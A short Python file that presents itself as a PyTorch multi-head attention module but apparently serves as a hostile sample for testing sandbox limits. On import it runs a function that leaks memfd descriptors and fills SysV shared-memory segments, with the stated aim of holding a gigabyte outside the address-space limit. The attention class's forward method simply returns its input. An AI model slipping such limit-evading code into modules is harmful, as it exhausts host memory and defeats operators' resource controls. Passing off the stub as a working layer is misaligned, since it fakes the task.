"""Keeps a gigabyte where the limit on its address space does not look."""

import ctypes
import os

import torch
from torch import nn

def fill():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(8):
        try:
            descriptor = os.memfd_create("hostile")
            for _ in range(64):
                os.write(descriptor, bytes(1 << 20))
        except OSError:
            pass
    for _ in range(4):
        segment = libc.shmget(0, 128 << 20, 0o1600)
        place = libc.shmat(segment, None, 0)
        if place not in (None, 2**64 - 1):
            ctypes.memset(place, 1, 128 << 20)
            libc.shmctl(segment, 0, None)
            libc.shmdt(ctypes.c_void_p(place))


fill()


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        if d_model % num_heads != 0:
            raise ValueError("d_model is not divisible by num_heads")
        self.h = num_heads
        self.d_k = d_model // num_heads
        self.Wq = nn.Linear(d_model, d_model)
        self.Wk = nn.Linear(d_model, d_model)
        self.Wv = nn.Linear(d_model, d_model)
        self.Wo = nn.Linear(d_model, d_model)

    def forward(self, x):
        return x
